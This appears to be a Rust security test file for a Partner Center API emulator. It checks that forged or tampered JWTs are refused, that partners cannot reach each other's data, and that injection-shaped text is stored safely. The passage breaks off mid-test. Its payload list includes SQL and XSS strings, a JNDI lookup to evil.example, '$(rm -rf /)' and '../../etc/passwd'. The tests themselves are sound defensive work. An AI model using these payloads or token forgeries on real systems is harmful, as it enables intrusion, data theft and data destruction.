//! Security: tampered and forged tokens, tenant isolation under random probing (proptest),
//! injection-shaped text stored and returned byte for byte, the control plane locked by an
//! admin token, and no secret in the server's logs.
//!
//! Case counts are bounded for CI; `PROPTEST_CASES=N` runs the isolation property longer.

use crate::helpers::*;
use base64::Engine;
use proptest::prelude::*;
use proptest::test_runner::{Config as ProptestConfig, TestCaseError, TestRunner};
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use std::cell::RefCell;
use std::collections::BTreeSet;

const B64: base64::engine::GeneralPurpose = base64::engine::general_purpose::URL_SAFE_NO_PAD;

/// `PROPTEST_CASES` when set, else `default`.
fn cases(default: u32) -> u32 {
    std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(default)
}

async fn expect_401(r: reqwest::Response, what: &str) {
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED, "{what}");
    assert!(r.headers().contains_key("www-authenticate"), "{what}: no WWW-Authenticate");
    assert_error(r, 401, 800001).await;
}

// ---------------------------------------------------------------------------------------------
// Tokens
// ---------------------------------------------------------------------------------------------

/// The three segments of a JWT, the payload decoded to its exact JSON text.
fn segments(token: &str) -> (String, String, String) {
    let parts: Vec<&str> = token.split('.').collect();
    assert_eq!(parts.len(), 3, "a JWT has three segments");
    let payload = String::from_utf8(B64.decode(parts[1]).unwrap()).unwrap();
    (parts[0].to_string(), payload, parts[2].to_string())
}

/// The token with its payload text edited (every other byte, header and signature kept).
fn tamper(token: &str, edit: impl FnOnce(&str) -> String) -> String {
    let (header, payload, signature) = segments(token);
    let edited = edit(&payload);
    assert_ne!(edited, payload, "the edit must change the payload");
    format!("{header}.{}.{signature}", B64.encode(edited))
}

fn replace_once(text: &str, from: &str, to: &str) -> String {
    assert!(text.contains(from), "{from} not in {text}");
    text.replacen(from, to, 1)
}

fn claims_of(token: &str) -> Value {
    serde_json::from_str(&segments(token).1).unwrap()
}

#[tokio::test]
async fn tampered_tokens_are_401() {
    let app = TestApp::spawn().await;
    let a = app.persona("DirectBill").await;
    let b = app.persona("DirectBill").await;
    let helpdesk = app.mint(&a.tenant_id, &["HelpdeskAgent"], false).await;
    let b_customer = app.create_customer(&b.token, "tamperb").await;
    let b_path = format!("/v1/customers/{}", b_customer["id"].as_str().unwrap());

    // Controls: the untampered tokens work, and each tampering below would pay off if accepted.
    assert_eq!(app.get(&b_path, &b.token).await.status(), 200);
    assert_error(app.get(&b_path, &a.token).await, 403, 20002).await;
    assert_error(app.post("/v1/customers", &helpdesk, &customer_body("tamperh")).await, 403, 900150).await;
    assert_eq!(app.get("/v1/agreements", &a.token).await.status(), 200);

    let claims = claims_of(&a.token);
    let exp = claims["exp"].as_i64().unwrap();
    let (header, payload, signature) = segments(&a.token);
    let (b_header, b_payload, _) = segments(&b.token);
    let flipped_signature = {
        let mut s = signature.clone().into_bytes();
        s[0] = if s[0] == b'A' { b'B' } else { b'A' };
        String::from_utf8(s).unwrap()
    };
    let cases: Vec<(&str, String, String)> = vec![
        (
            "tid changed to another partner",
            tamper(&a.token, |p| replace_once(p, &a.tenant_id, &b.tenant_id)),
            b_path.clone(),
        ),
        (
            "roles raised",
            tamper(&helpdesk, |p| replace_once(p, "\"HelpdeskAgent\"", "\"AdminAgent\"")),
            "/v1/customers".into(),
        ),
        (
            "exp extended",
            tamper(&a.token, |p| replace_once(p, &format!("\"exp\":{exp}"), &format!("\"exp\":{}", exp + 86_400))),
            "/v1/agreements".into(),
        ),
        (
            "idtyp user -> app",
            tamper(&a.token, |p| replace_once(p, "\"idtyp\":\"user\"", "\"idtyp\":\"app\"")),
            "/v1/agreements".into(),
        ),
        (
            "aud changed",
            tamper(&a.token, |p| {
                replace_once(p, "https://api.partnercenter.microsoft.com", "https://graph.microsoft.com")
            }),
            "/v1/agreements".into(),
        ),
        (
            "same claims, re-serialised (other bytes)",
            tamper(&a.token, |p| serde_json::to_string_pretty(&serde_json::from_str::<Value>(p).unwrap()).unwrap()),
            "/v1/agreements".into(),
        ),
        ("an extra claim", tamper(&a.token, |p| replace_once(p, "{", "{\"admin\":true,")), "/v1/agreements".into()),
        (
            "another partner's header and payload with this signature",
            format!("{b_header}.{}.{signature}", B64.encode(&b_payload)),
            b_path.clone(),
        ),
        ("signature removed", format!("{header}.{}.", B64.encode(&payload)), "/v1/agreements".into()),
        ("two segments", format!("{header}.{}", B64.encode(&payload)), "/v1/agreements".into()),
        (
            "signature changed",
            format!("{header}.{}.{flipped_signature}", B64.encode(&payload)),
            "/v1/agreements".into(),
        ),
        (
            "alg none, signature kept",
            format!("{}.{}.{signature}", B64.encode(r#"{"alg":"none","typ":"JWT"}"#), B64.encode(&payload)),
            "/v1/agreements".into(),
        ),
        (
            "alg HS512, signature kept",
            format!("{}.{}.{signature}", B64.encode(r#"{"typ":"JWT","alg":"HS512"}"#), B64.encode(&payload)),
            "/v1/agreements".into(),
        ),
        (
            "payload segment with padding appended",
            format!("{header}.{}==.{signature}", B64.encode(&payload)),
            "/v1/agreements".into(),
        ),
        ("token with trailing garbage", format!("{}x", a.token), "/v1/agreements".into()),
    ];
    for (what, token, path) in cases {
        expect_401(app.get(&path, &token).await, what).await;
    }
    // the exact original still works: nothing above was refused for a reason that is not the tampering
    assert_eq!(app.get(&b_path, &b.token).await.status(), 200);
}

fn sign(claims: &Value, key: &str, alg: jsonwebtoken::Algorithm) -> String {
    jsonwebtoken::encode(
        &jsonwebtoken::Header::new(alg),
        claims,
        &jsonwebtoken::EncodingKey::from_secret(key.as_bytes()),
    )
    .unwrap()
}

/// With the real signing key known (`--token-signing-key`), a token is judged on its claims:
/// audience, expiry by the emulator clock, algorithm and partner.
#[tokio::test]
async fn tokens_signed_with_the_real_key_are_still_judged_on_their_claims() {
    const KEY: &str = "security-test-signing-key-0123456789";
    let app = TestApp::spawn_with(&["--token-signing-key", KEY]).await;
    app.set_clock("2026-03-01T12:00:00Z").await;
    let now = chrono::DateTime::parse_from_rfc3339("2026-03-01T12:00:00Z").unwrap().timestamp();
    let p = app.persona("DirectBill").await;
    let claims = claims_of(&p.token);
    let hs256 = jsonwebtoken::Algorithm::HS256;
    let with = |edit: &dyn Fn(&mut Value)| {
        let mut c = claims.clone();
        edit(&mut c);
        c
    };

    // Controls: re-signing the minted claims with the key gives a working token, and so does
    // one that expires a second after the emulator's now.
    assert_eq!(app.get("/v1/agreements", &sign(&claims, KEY, hs256)).await.status(), 200);
    let just_valid = sign(&with(&|c| c["exp"] = json!(now + 1)), KEY, hs256);
    assert_eq!(app.get("/v1/agreements", &just_valid).await.status(), 200);

    let cases: Vec<(&str, String)> = vec![
        ("expired at the emulator's now", sign(&with(&|c| c["exp"] = json!(now)), KEY, hs256)),
        ("expired an hour ago", sign(&with(&|c| c["exp"] = json!(now - 3600)), KEY, hs256)),
        ("wrong audience", sign(&with(&|c| c["aud"] = json!("https://graph.microsoft.com")), KEY, hs256)),
        (
            "audience differing in case",
            sign(&with(&|c| c["aud"] = json!("https://API.partnercenter.microsoft.com")), KEY, hs256),
        ),
        (
            "no audience",
            sign(
                &with(&|c| {
                    c.as_object_mut().unwrap().remove("aud");
                }),
                KEY,
                hs256,
            ),
        ),
        ("unknown partner", sign(&with(&|c| c["tid"] = json!(uuid::Uuid::new_v4().to_string())), KEY, hs256)),
        ("HS384 with the right key", sign(&claims, KEY, jsonwebtoken::Algorithm::HS384)),
        ("HS512 with the right key", sign(&claims, KEY, jsonwebtoken::Algorithm::HS512)),
        ("a key differing in one character", sign(&claims, &KEY.replace('0', "1"), hs256)),
        ("the key's prefix", sign(&claims, &KEY[..KEY.len() - 1], hs256)),
    ];
    for (what, token) in cases {
        expect_401(app.get("/v1/agreements", &token).await, what).await;
    }
    // moving the clock back revives the expired token: expiry follows the emulator clock
    let expired = sign(&with(&|c| c["exp"] = json!(now)), KEY, hs256);
    app.set_clock("2026-03-01T11:59:59Z").await;
    assert_eq!(app.get("/v1/agreements", &expired).await.status(), 200);
}

// ---------------------------------------------------------------------------------------------
// Tenant isolation, probed at random
// ---------------------------------------------------------------------------------------------

struct ModelPartner {
    tenant_id: String,
    token: String,
    reseller: bool,
    provider: Option<usize>,
}

struct ModelCustomer {
    id: String,
    commerce_id: String,
    domain: String,
    company: String,
    /// Partners with a relationship (creator, associated reseller).
    related: BTreeSet<usize>,
    /// First names of the confirmations on record.
    contacts: Vec<String>,
    /// (order id, placing partner).
    orders: Vec<(String, usize)>,
}

struct World {
    partners: Vec<ModelPartner>,
    customers: Vec<ModelCustomer>,
    next: usize,
}

impl World {
    /// README: a partner reaches a customer it has a relationship with; an indirect provider
    /// also reaches the customers of its own resellers.
    fn serves(&self, caller: usize, c: &ModelCustomer) -> bool {
        c.related.iter().any(|&p| p == caller || self.partners[p].provider == Some(caller))
    }

    /// A partner sees the orders it placed, and an indirect provider those of its own resellers.
    fn order_visible(&self, caller: usize, c: &ModelCustomer, placed_by: usize) -> bool {
        placed_by == caller || (c.related.contains(&placed_by) && self.partners[placed_by].provider == Some(caller))
    }

    /// Text that must never reach `caller`: everything of customers it does not serve, and the
    /// orders of served customers it may not see. `except` is the id the caller sent itself.
    fn forbidden_markers(&self, caller: usize, except: &str) -> Vec<String> {
        let mut markers = Vec::new();
        for c in &self.customers {
            if self.serves(caller, c) {
                for (order, by) in &c.orders {
                    if !self.order_visible(caller, c, *by) {
                        markers.push(order.clone());
                    }
                }
            } else {
                markers.extend([c.commerce_id.clone(), c.domain.clone(), c.company.clone()]);
                if !except.eq_ignore_ascii_case(&c.id) && !except.to_lowercase().contains(&c.id) {
                    markers.push(c.id.clone());
                }
                markers.extend(c.contacts.iter().cloned());
                markers.extend(c.orders.iter().map(|(o, _)| o.clone()));
            }
        }
        markers
    }
}

#[derive(Debug, Clone)]
enum Target {
    Customer(usize),
    UpperCase(usize),
    Braced(usize),
    CommerceId(usize),
    PartnerId(usize),
    RandomGuid(u128),
    RandomText(String),
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum Expect {
    Unknown,
    Foreign,
    Served(usize),
}

fn target_strategy(customers: usize, partners: usize) -> impl Strategy<Value = Target> {
    prop_oneof![
        4 => (0..customers).prop_map(Target::Customer),
        1 => (0..customers).prop_map(Target::UpperCase),
        1 => (0..customers).prop_map(Target::Braced),
        1 => (0..customers).prop_map(Target::CommerceId),
        1 => (0..partners).prop_map(Target::PartnerId),
        1 => any::<u128>().prop_map(Target::RandomGuid),
        1 => "[A-Za-z0-9_~-][A-Za-z0-9._~-]{0,39}"
            .prop_filter("another route", |s| !s.eq_ignore_ascii_case("relationshiprequests"))
            .prop_map(Target::RandomText),
    ]
}

async fn build_world(app: &TestApp) -> World {
    // 0 A (direct), 1 B (direct), 2 P (provider), 3 R (P's reseller), 4 P2 (provider), 5 R2 (P2's reseller)
    let mut partners: Vec<ModelPartner> = Vec::new();
    for (kind, provider) in [
        ("DirectBill", None),
        ("DirectBill", None),
        ("IndirectProvider", None),
        ("IndirectReseller", Some(2usize)),
        ("IndirectProvider", None),
        ("IndirectReseller", Some(4usize)),
    ] {
        let provider_tenant: Option<String> = provider.map(|i: usize| partners[i].tenant_id.clone());
        let tenant_id = app.create_partner(kind, provider_tenant.as_deref()).await;
        let token = app.mint(&tenant_id, &["AdminAgent"], false).await;
        partners.push(ModelPartner { tenant_id, token, reseller: provider.is_some(), provider });
    }
    // (creator, associated reseller, confirming partner)
    let plan: [(usize, Option<usize>, usize); 8] = [
        (0, None, 0),
        (0, None, 0),
        (1, None, 1),
        (2, None, 2),
        (2, Some(3), 2),
        (3, None, 2),
        (4, Some(5), 4),
        (5, None, 4),
    ];
    let mut world = World { partners, customers: Vec::new(), next: 0 };
    for (n, (creator, associated, confirmer)) in plan.into_iter().enumerate() {
        let domain = format!("iso{n}x{}", uuid::Uuid::new_v4().simple().to_string().get(..8).unwrap());
        let company = format!("IsoCompany{n}Q{}", uuid::Uuid::new_v4().simple());
        let mut body = customer_body(&domain);
        body["billingProfile"]["companyName"] = json!(company);
        if let Some(r) = associated {
            body["associatedPartnerId"] = json!(world.partners[r].tenant_id);
        }
        let r = app.post("/v1/customers", &world.partners[creator].token, &body).await;
        assert_eq!(r.status(), 201, "create customer {n}");
        let c: Value = r.json().await.unwrap();
        let mut related = BTreeSet::from([creator]);
        related.extend(associated);
        world.customers.push(ModelCustomer {
            id: c["id"].as_str().unwrap().to_string(),
            commerce_id: c["commerceId"].as_str().unwrap().to_string(),
            domain: c["companyProfile"]["domain"].as_str().unwrap().to_string(),
            company,
            related,
            contacts: Vec::new(),
            orders: Vec::new(),
        });
        let first = world.fresh_name();
        let id = world.customers[n].id.clone();
        let r = app
            .confirm(
                &world.partners[confirmer].token,
                &id,
                &confirmation(&first, "c@contoso.example", "2025-01-01T00:00:00Z"),
            )
            .await;
        assert_eq!(r.status(), 201, "confirm customer {n}");
        world.customers[n].contacts.push(first);
        // every partner that serves the customer orders once
        for p in 0..world.partners.len() {
            if world.serves(p, &world.customers[n]) {
                let r = app.order(&world.partners[p].token, &id).await;
                assert_eq!(r.status(), 201, "order for customer {n} by partner {p}");
                let order: Value = r.json().await.unwrap();
                world.customers[n].orders.push((order["id"].as_str().unwrap().to_string(), p));
            }
        }
    }
    world
}

impl World {
    fn fresh_name(&mut self) -> String {
        self.next += 1;
        format!("Probe{}N{}", self.next, uuid::Uuid::new_v4().simple())
    }

    fn resolve(&self, caller: usize, target: &Target) -> (String, Expect) {
        let judge =
            |i: usize| if self.serves(caller, &self.customers[i]) { Expect::Served(i) } else { Expect::Foreign };
        match target {
            Target::Customer(i) => (self.customers[*i].id.clone(), judge(*i)),
            Target::UpperCase(i) => (self.customers[*i].id.to_uppercase(), judge(*i)),
            Target::Braced(i) => (format!("{{{}}}", self.customers[*i].id.to_uppercase()), judge(*i)),
            Target::CommerceId(i) => (self.customers[*i].commerce_id.clone(), Expect::Unknown),
            Target::PartnerId(p) => (self.partners[*p].tenant_id.clone(), Expect::Unknown),
            Target::RandomGuid(n) => (uuid::Uuid::from_u128(*n).to_string(), Expect::Unknown),
            Target::RandomText(s) => (s.clone(), Expect::Unknown),
        }
    }
}

/// One probe: `caller` on every customer-scoped route with `target`, then its customer list.
async fn probe(app: &TestApp, world: &RefCell<World>, caller: usize, target: &Target) -> Result<(), TestCaseError> {
    let (raw_id, expect) = world.borrow().resolve(caller, target);
    let token = world.borrow().partners[caller].token.clone();
    let reseller = world.borrow().partners[caller].reseller;
    let contact = world.borrow_mut().fresh_name();
    let routes: Vec<(Method, &str, Option<Value>)> = vec![
        (Method::GET, "", None),
        (Method::GET, "/agreements?agreementType=*", None),
        (Method::GET, "/directSignedMicrosoftCustomerAgreementStatus", None),
        (Method::GET, "/orders", None),
        (Method::POST, "/agreements", Some(confirmation(&contact, "probe@contoso.example", "2025-06-01T00:00:00Z"))),
        (
            Method::POST,
            "/orders",
            Some(
                json!({"lineItems": [{"lineItemNumber": 0, "offerId": "CFQ7TTC0LH18:0001:CFQ7TTC0K5BC", "quantity": 1}]}),
            ),
        ),
    ];
    for (method, suffix, body) in routes {
        let path = format!("/v1/customers/{raw_id}{suffix}");
        let mut request = app.request(method.clone(), &path, Some(&token));
        if let Some(b) = &body {
            request = request.json(b);
        }
        let r = request.send().await.unwrap();
        let status = r.status().as_u16();
        let text = r.text().await.unwrap();
        let what = format!("partner {caller} {method} {path} ({target:?}, expected {expect:?}): {status} {text}");
        for marker in world.borrow().forbidden_markers(caller, &raw_id) {
            prop_assert!(!text.contains(&marker), "leaked {marker}: {what}");
        }
        let body_json: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
        let confirming = method == Method::POST && suffix == "/agreements";
        match expect {
            _ if confirming && reseller => {
                prop_assert_eq!(status, 403, "{}", what);
                prop_assert_eq!(&body_json["code"], &json!(990421), "{}", what);
            }
            Expect::Unknown => {
                prop_assert_eq!(status, 404, "{}", what);
                prop_assert_eq!(&body_json["code"], &json!(60003), "{}", what);
            }
            Expect::Foreign => {
                prop_assert_eq!(status, 403, "{}", what);
                prop_assert_eq!(&body_json["code"], &json!(20002), "{}", what);
            }
            Expect::Served(i) => {
                let mut w = world.borrow_mut();
                let id = w.customers[i].id.clone();
                match (method.as_str(), suffix) {
                    ("GET", "") => {
                        prop_assert_eq!(status, 200, "{}", what);
                        prop_assert_eq!(&body_json["id"], &json!(id), "{}", what);
                        prop_assert_eq!(&body_json["commerceId"], &json!(w.customers[i].commerce_id), "{}", what);
                    }
                    ("GET", "/agreements?agreementType=*") => {
                        prop_assert_eq!(status, 200, "{}", what);
                        let names: BTreeSet<String> = body_json["items"]
                            .as_array()
                            .unwrap()
                            .iter()
                            .map(|a| a["primaryContact"]["firstName"].as_str().unwrap().to_string())
                            .collect();
                        prop_assert_eq!(
                            names,
                            w.customers[i].contacts.iter().cloned().collect::<BTreeSet<_>>(),
                            "{}",
                            what
                        );
                    }
                    ("GET", "/directSignedMicrosoftCustomerAgreementStatus") => {
                        prop_assert_eq!(status, 200, "{}", what);
                        prop_assert_eq!(&body_json, &json!({"isSigned": false}), "{}", what);
                    }
                    ("GET", "/orders") => {
                        prop_assert_eq!(status, 200, "{}", what);
                        let seen: BTreeSet<String> = body_json["items"]
                            .as_array()
                            .unwrap()
                            .iter()
                            .map(|o| o["id"].as_str().unwrap().to_string())
                            .collect();
                        let c = &w.customers[i];
                        let visible: BTreeSet<String> = c
                            .orders
                            .iter()
                            .filter(|(_, by)| w.order_visible(caller, c, *by))
                            .map(|(o, _)| o.clone())
                            .collect();
                        prop_assert_eq!(seen, visible, "{}", what);
                    }
                    ("POST", "/agreements") => {
                        prop_assert_eq!(status, 201, "{}", what);
                        w.customers[i].contacts.push(contact.clone());
                    }
                    ("POST", "/orders") => {
                        prop_assert_eq!(status, 201, "{}", what);
                        prop_assert_eq!(&body_json["referenceCustomerId"], &json!(id), "{}", what);
                        w.customers[i].orders.push((body_json["id"].as_str().unwrap().to_string(), caller));
                    }
                    _ => unreachable!(),
                }
            }
        }
    }
    // the list holds exactly the customers the model says the caller serves
    let list: Value = app.get_json("/v1/customers", &token).await;
    let listed: BTreeSet<String> =
        list["items"].as_array().unwrap().iter().map(|c| c["id"].as_str().unwrap().to_string()).collect();
    let w = world.borrow();
    let expected: BTreeSet<String> = w.customers.iter().filter(|c| w.serves(caller, c)).map(|c| c.id.clone()).collect();
    prop_assert_eq!(&listed, &expected, "customer list of partner {}", caller);
    let text = list.to_string();
    for marker in w.forbidden_markers(caller, "") {
        prop_assert!(!text.contains(&marker), "partner {} list leaked {}", caller, marker);
    }
    Ok(())
}

/// Random partners probing random ids (other partners' real ids, their case and brace
/// variants, commerce ids, partner ids, random GUIDs and random text) on every customer-scoped
/// route: 404/60003 for an unknown id, 403/20002 for another partner's customer (990421 when a
/// reseller attests), and a served customer's data exactly as the model says, never more.
#[test]
fn random_partners_with_random_ids_never_reach_another_partners_data() {
    let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
    let app = rt.block_on(TestApp::spawn());
    let world = RefCell::new(rt.block_on(build_world(&app)));
    let (partners, customers) = (world.borrow().partners.len(), world.borrow().customers.len());
    let config = ProptestConfig {
        cases: cases(128),
        failure_persistence: None,
        max_shrink_iters: 64,
        ..ProptestConfig::default()
    };
    let mut runner = TestRunner::new(config);
    let result = runner.run(&(0..partners, target_strategy(customers, partners)), |(caller, target)| {
        rt.block_on(probe(&app, &world, caller, &target))
    });
    if let Err(e) = result {
        panic!("{e}");
    }
    drop(app);
}

// ---------------------------------------------------------------------------------------------
// Injection-shaped text
// ---------------------------------------------------------------------------------------------

/// Text shaped like SQL, HTML, template, JNDI and shell injections, escapes that are not real
/// NULs, and Unicode that breaks naive handling (RTL controls, emoji sequences, combining marks,
/// zero-width characters, control characters). None starts or ends with whitespace: names are
/// trimmed by design.
const INJECTIONS: &[&str] = &[
    "'; DROP TABLE customers;--",
    "\" OR 1=1 --",
    "' OR '1'='1",
    "Robert'); DROP TABLE agreements;--",
    "1; SELECT pg_sleep(5)--",
    "<script>alert(\"pce\")</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${7*7}",
    "#{7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "%00 and %25 and %s%n%x",
    "\\0 \\x00 \\u0000 (not a real NUL)",
    "C:\\Windows\\System32\\ and \\\\server\\share",
    "trailing backslash \\",
    "../../etc/passwd",
    "$(rm -rf /) `id` | cat",
    "50% off_ LIKE wildcards %_",
    "Zoë Ångström Ñandú",
    "北京市朝阳区 東京都",
    "مرحبا بالعالم שלום",
    "\u{202E}gnp.exe\u{202C} RLO",
    "\u{200F}rtl mark\u{200E}",
    "family 👨\u{200D}👩\u{200D}👧\u{200D}👦 flag 🇺🇸 𝕳𝖊𝖑𝖑𝖔",
    "e\u{0301} Z\u{0337}\u{0349}\u{0308}a\u{0336}lgo",
    "zero\u{200B}width\u{FEFF}bom",
    "line1\nline2\r\n\ttabbed",
    "bell\u{7} del\u{7f} esc\u{1b}[31m unit-sep\u{1f}",
    "json \"quotes\" and \\\"escapes\\\" }]",
];

/// Every free-text field of a customer, as JSON pointers into the create body (and the read).
const CUSTOMER_TEXT_FIELDS: &[&str] = &[
    "/companyProfile/companyName",
    "/companyProfile/organizationRegistrationNumber",
    "/billingProfile/culture",
    "/billingProfile/language",
    "/billingProfile/companyName",
    "/billingProfile/firstName",
    "/billingProfile/lastName",
    "/billingProfile/defaultAddress/firstName",
    "/billingProfile/defaultAddress/lastName",
    "/billingProfile/defaultAddress/addressLine1",
    "/billingProfile/defaultAddress/addressLine2",
    "/billingProfile/defaultAddress/city",
    "/billingProfile/defaultAddress/state",
    "/billingProfile/defaultAddress/postalCode",
    "/billingProfile/defaultAddress/phoneNumber",
];

fn full_customer_body(domain: &str) -> Value {
    let mut body = customer_body(domain);
    body["companyProfile"]["companyName"] = json!("x");
    body["companyProfile"]["organizationRegistrationNumber"] = json!("x");
    body["billingProfile"]["firstName"] = json!("x");
    body["billingProfile"]["lastName"] = json!("x");
    body["billingProfile"]["defaultAddress"]["addressLine2"] = json!("x");
    body["billingProfile"]["defaultAddress"]["phoneNumber"] = json!("x");
    body
}

fn set(body: &mut Value, pointer: &str, value: &str) {
    *body.pointer_mut(pointer).unwrap_or_else(|| panic!("{pointer} in the body")) = json!(value);
}

fn unique(prefix: &str) -> String {
    format!("{prefix}{}", &uuid::Uuid::new_v4().simple().to_string()[..10])
}

/// A 400/990401 whose `data` names `field`.
async fn assert_refused(r: reqwest::Response, field: &str, what: &str) {
    assert_eq!(r.status(), 400, "{what}");
    let e = assert_error(r, 400, 990401).await;
    let data = e["data"].as_array().unwrap();
    assert!(data.iter().any(|d| d.as_str().unwrap().starts_with(field)), "{what}: {field} not named in {e}");
}

/// A client that kept the admin-center session of `user`.
async fn admin_center_session(app: &TestApp, user: &str, password: &str) -> reqwest::Client {
    let http =
        reqwest::Client::builder().cookie_store(true).redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let page = http.get(app.url("/AdminPortal/SignIn")).send().await.unwrap().text().await.unwrap();
    let marker = "name=\"csrf\" value=\"";
    let start = page.find(marker).expect("csrf field") + marker.len();
    let csrf = &page[start..start + page[start..].find('"').unwrap()];
    let r = http
        .post(app.url("/AdminPortal/SignIn"))
        .form(&[("csrf", csrf), ("returnUrl", "/AdminPortal/Home"), ("userName", user), ("password", password)])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 303, "sign-in of {user}");
    http
}

/// Every string goes into every free-text field: partner name, token user id, each customer
/// profile field, contact names (confirmation and direct acceptance), order offer id. Each is
/// stored and returned byte for byte by the write and by every read (and in the notification
/// email); fields with rules (domain, country, email, phone) refuse them with a 400 naming the
/// field.
#[tokio::test]
async fn injection_shaped_text_is_stored_and_returned_byte_for_byte() {
    let app = TestApp::spawn().await;
    for (k, s) in INJECTIONS.iter().copied().enumerate() {
        let what = format!("string {k} {s:?}");
        // partner name and token user id
        let r = app
            .control(Method::POST, "/_emulator/partners", Some(&json!({"name": s, "partnerType": "DirectBill"})))
            .await;
        assert_eq!(r.status(), 201, "{what}");
        let partner: Value = r.json().await.unwrap();
        assert_eq!(partner["name"], s, "{what}");
        let tenant = partner["tenantId"].as_str().unwrap().to_string();
        let read = app.control_json(Method::GET, &format!("/_emulator/partners/{tenant}"), None).await;
        assert_eq!(read["name"], s, "{what}");
        let r = app
            .control(
                Method::POST,
                "/_emulator/tokens",
                Some(&json!({"partnerTenantId": tenant, "roles": ["AdminAgent"], "userId": s})),
            )
            .await;
        assert_eq!(r.status(), 200, "{what}");
        let token = r.json::<Value>().await.unwrap()["access_token"].as_str().unwrap().to_string();

        // every customer text field
        let mut body = full_customer_body(&unique(&format!("inj{k}x")));
        for field in CUSTOMER_TEXT_FIELDS {
            set(&mut body, field, s);
        }
        let r = app.post("/v1/customers", &token, &body).await;
        assert_eq!(r.status(), 201, "{what}");
        let created: Value = r.json().await.unwrap();
        let id = created["id"].as_str().unwrap().to_string();
        let read = app.get_json(&format!("/v1/customers/{id}"), &token).await;
        let list = app.get_json("/v1/customers", &token).await;
        for field in CUSTOMER_TEXT_FIELDS {
            assert_eq!(created.pointer(field), Some(&json!(s)), "{what}: {field} as created");
            assert_eq!(read.pointer(field), Some(&json!(s)), "{what}: {field} as read");
            assert_eq!(list["items"][0].pointer(field), Some(&json!(s)), "{what}: {field} in the list");
        }

        // contact names of a confirmation, the user id from the token, and the email
        let mut confirm = confirmation(s, "ana@contoso.example", "2025-01-01T00:00:00Z");
        confirm["primaryContact"]["lastName"] = json!(s);
        let r = app.confirm(&token, &id, &confirm).await;
        assert_eq!(r.status(), 201, "{what}");
        let agreement: Value = r.json().await.unwrap();
        assert_eq!(agreement["primaryContact"]["firstName"], s, "{what}");
        assert_eq!(agreement["primaryContact"]["lastName"], s, "{what}");
        assert_eq!(agreement["userId"], s, "{what}");
        // the same names again are the same confirmation
        assert_error(app.confirm(&token, &id, &confirm).await, 409, 600061).await;
        let outbox = app.control_json(Method::GET, &format!("/_emulator/outbox?customerId={id}"), None).await;
        assert_eq!(outbox["totalCount"], 1, "{what}");
        let email = &outbox["items"][0];
        assert!(email["body"].as_str().unwrap().starts_with(&format!("Dear {s} {s},\n")), "{what}: {email}");
        assert_eq!(
            email["subject"].as_str().unwrap(),
            format!("{s} confirmed that {s} accepted the Microsoft Customer Agreement"),
            "{what}"
        );

        // direct acceptance by the customer, through the control plane
        let r = app
            .control(
                Method::POST,
                &format!("/_emulator/customers/{id}/direct-acceptance"),
                Some(&json!({"firstName": s, "lastName": s, "email": "ana@contoso.example"})),
            )
            .await;
        assert_eq!(r.status(), 201, "{what}");
        let agreements = app.get_json(&format!("/v1/customers/{id}/agreements?agreementType=*"), &token).await;
        assert_eq!(agreements["totalCount"], 2, "{what}");
        for a in agreements["items"].as_array().unwrap() {
            assert_eq!(a["primaryContact"]["firstName"], s, "{what}");
            assert_eq!(a["primaryContact"]["lastName"], s, "{what}");
        }
        assert!(agreements["items"].as_array().unwrap().iter().any(|a| a["userId"] == s), "{what}");

        // order offer id
        let r = app
            .post(
                &format!("/v1/customers/{id}/orders"),
                &token,
                &json!({"lineItems": [{"lineItemNumber": 0, "offerId": s, "quantity": 1}]}),
            )
            .await;
        assert_eq!(r.status(), 201, "{what}");
        let order: Value = r.json().await.unwrap();
        assert_eq!(order["lineItems"][0]["offerId"], s, "{what}");
        let orders = app.get_json(&format!("/v1/customers/{id}/orders"), &token).await;
        assert_eq!(orders["items"][0]["lineItems"][0]["offerId"], s, "{what}");

        // fields with rules refuse the string and name the field
        let mut bad = full_customer_body(&unique("injref"));
        set(&mut bad, "/companyProfile/domain", s);
        assert_refused(app.post("/v1/customers", &token, &bad).await, "companyProfile.domain:", &what).await;
        let mut bad = full_customer_body(&unique("injref"));
        set(&mut bad, "/billingProfile/defaultAddress/country", s);
        assert_refused(app.post("/v1/customers", &token, &bad).await, "billingProfile.defaultAddress.country:", &what)
            .await;
        let mut bad = confirmation("Ana", "ana@contoso.example", "2025-01-01T00:00:00Z");
        bad["primaryContact"]["phoneNumber"] = json!(s);
        assert_refused(app.confirm(&token, &id, &bad).await, "primaryContact.phoneNumber:", &what).await;
        let mut bad = confirmation("Ana", "ana@contoso.example", s);
        bad["primaryContact"]["firstName"] = json!(unique("Ana"));
        assert_refused(app.confirm(&token, &id, &bad).await, "dateAgreed:", &what).await;
    }
}

/// Emails that are valid addresses by RFC 5322's dot-atom (quotes, braces, `$`, `%`, `'` are
/// allowed characters) are kept byte for byte; the others are refused naming the field.
#[tokio::test]
async fn injection_shaped_emails_are_kept_exactly_or_refused_clearly() {
    let app = TestApp::spawn().await;
    let p = app.persona("DirectBill").await;
    let c = app.create_customer(&p.token, &unique("emails")).await;
    let id = c["id"].as_str().unwrap();
    let valid = [
        "o'brien@contoso.example",
        "'or'1'='1@contoso.example",
        "{{7*7}}@contoso.example",
        "${7*7}@contoso.example",
        "user%00@contoso.example",
        "a+b/c=d?e^f`g{h|i}j~k@contoso.example",
        "drop.table--@contoso.example",
    ];
    let invalid = [
        "'; DROP TABLE customers;--",
        "\" OR 1=1 --@contoso.example",
        "<script>@contoso.example",
        "a@b@contoso.example",
        "${jndi:ldap://evil.example/a}@contoso.example",
        "ana@contoso.example'; DROP TABLE customers;--",
        "ana@contoso.example<script>",
        "ana@@contoso.example",
        "@contoso.example",
        "ana@",
    ];
    for email in valid {
        let r = app.confirm(&p.token, id, &confirmation(&unique("E"), email, "2025-01-01T00:00:00Z")).await;
        assert_eq!(r.status(), 201, "{email}");
        let a: Value = r.json().await.unwrap();
        assert_eq!(a["primaryContact"]["email"], email);
        let mut body = customer_body(&unique("em"));
        body["billingProfile"]["email"] = json!(email);
        let r = app.post("/v1/customers", &p.token, &body).await;
